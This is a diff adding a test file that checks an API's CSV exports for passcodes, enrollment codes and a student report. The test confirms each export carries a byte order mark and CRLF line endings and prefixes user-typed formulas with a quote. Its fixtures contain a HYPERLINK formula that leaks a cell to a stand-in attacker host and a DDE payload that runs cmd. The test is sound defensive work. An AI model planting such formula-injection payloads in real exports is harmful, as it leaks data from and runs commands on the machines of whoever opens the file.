@@ -1,0 +1,105 @@
+// Every CSV the API streams, as a spreadsheet opens it: each starts with the UTF-8 byte order mark and
+// ends its lines with CRLF (parseCsv refuses anything else), and text people typed into one screen
+// (order numbers, e-mails, revoke reasons) comes out with a leading single quote when a spreadsheet
+// would otherwise run it as a formula. The files are the passcode and enrollment-code lists and
+// generations, and the self-paced students report.
+import { contract, type Endpoint } from '@eco/contract';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvRecords, parseCsv } from '../testing/csv.js';
+import { startTestApp, type TestApp } from '../testing/harness.js';
+
+let t: TestApp;
+let admin: { authorization: string };
+beforeAll(async () => {
+  t = await startTestApp();
+  admin = await t.as('admin@example.com');
+});
+afterAll(() => t.close());
+
+const call = (method: 'GET' | 'POST', url: string, payload?: object) =>
+  t.app.inject({ method, url, headers: admin, ...(payload ? { payload } : {}) });
+
+async function ok(method: 'GET' | 'POST', url: string, payload?: object) {
+  const res = await call(method, url, payload);
+  expect(res.statusCode, res.body).toBeLessThan(300);
+  return res;
+}
+
+// What the security probe typed: a link that leaks the next cell, and a DDE command.
+const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';
+const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+describe('CSV exports', () => {
+  it('neutralise formulas typed into passcodes, with the byte order mark and CRLF', async () => {
+    const sku = (await ok('GET', '/api/passcodes/lookup-info')).json().skus[0].value;
+    const gen = (
+      await ok('POST', '/api/passcodes/generate', { sku, quantity: 2, suffix: 'FORMULA', orderNumber: hyperlink })
+    ).json() as { batchId: string; codes: { id: number }[] };
+    await ok('POST', `/api/passcodes/${gen.codes[0]?.id}/revoke`, { reason: dde });
+
+    for (const url of ['/api/passcodes/export?suffix=FORMULA', `/api/passcodes/generations/${gen.batchId}`]) {
+      const rows = csvRecords((await ok('GET', url)).body);
+      expect(rows).toHaveLength(2);
+      expect(rows.map((r) => r['Order number'])).toEqual([`'${hyperlink}`, `'${hyperlink}`]);
+      expect(rows.map((r) => r['Revoked reason'])).toEqual([`'${dde}`, '']);
+      // Numbers the server writes stay numbers.
+      expect(rows.map((r) => Number(r.Id))).toEqual(gen.codes.map((c) => c.id));
+    }
+  });
+
+  it('neutralise formulas typed into enrollment codes', async () => {
+    const lookups = (await ok('GET', '/api/enrollment-codes/lookup-info')).json();
+    const onlineCourseId = lookups.onlineCourses.find((c: { isActive: boolean }) => c.isActive).value;
+    const gen = (
+      await ok('POST', '/api/enrollment-codes/generate', {
+        onlineCourseId,
+        quantity: 1,
+        suffix: 'FORMULA',
+        orderNumber: '+1+1',
+      })
+    ).json() as { batchId: string; codes: { id: number }[] };
+    await ok('POST', `/api/enrollment-codes/${gen.codes[0]?.id}/revoke`, { reason: '-2+3' });
+
+    for (const url of [
+      '/api/enrollment-codes/export?suffix=FORMULA',
+      `/api/enrollment-codes/generations/${gen.batchId}`,
+    ]) {
+      const [row] = csvRecords((await ok('GET', url)).body);
+      expect(row).toMatchObject({ 'Order number': "'+1+1", 'Revoked reason': "'-2+3", Id: String(gen.codes[0]?.id) });
+    }
+  });
+
+  it('neutralise formulas typed into a self-paced revoke reason', async () => {
+    const [row] = (await ok('GET', '/api/classes/self-paced?pageSize=1&isRevoked=false')).json().results;
+    await ok('POST', `/api/classes/self-paced/${row.id}/revoke`, {
+      reason: '=1+1\tsee the ticket',
+      version: row.version,
+    });
+    const csv = (await ok('GET', `/api/classes/reports/self-paced/students?userEmail=${row.userEmail}`)).body;
+    const revoked = csvRecords(csv).find((r) => Number(r.Id) === row.id);
+    expect(revoked?.['Revoked Reason']).toBe("'=1+1\tsee the ticket");
+  });
+
+  it('are every file endpoint of the contract, and all of them parse as our CSV', async () => {
+    const files = Object.values(contract).flatMap((area) =>
+      Object.values(area as Record<string, Endpoint>).filter((e) => e.produces === 'text/csv'),
+    );
+    const paths = files.map((e) => e.path).sort();
+    expect(paths).toEqual([
+      '/classes/reports/self-paced/students',
+      '/enrollment-codes/export',
+      '/enrollment-codes/generations/:batchId',
+      '/passcodes/export',
+      '/passcodes/generations/:batchId',
+    ]);
+    for (const url of [
+      '/api/classes/reports/self-paced/students',
+      '/api/passcodes/export',
+      '/api/enrollment-codes/export',
+    ]) {
+      const res = await ok('GET', url);
+      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(parseCsv(res.body).length).toBeGreaterThan(1);
+    }
+  });
+});
